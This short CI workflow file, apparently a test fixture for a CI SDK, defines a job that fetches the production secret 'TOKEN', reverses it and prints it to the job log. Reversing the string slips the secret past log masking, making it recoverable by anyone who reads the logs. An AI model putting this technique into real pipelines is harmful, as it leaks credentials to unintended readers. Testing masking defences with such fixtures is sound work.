import { workflow, job, push } from '@kici-dev/sdk';

export default workflow('ci', {
  on: push(),
  jobs: [job('a', { runsOn: 'default', environment: 'prod', run: async (ctx) => { ctx.log.info([...(await ctx.secrets.get('TOKEN'))].reverse().join('')); } })],
});
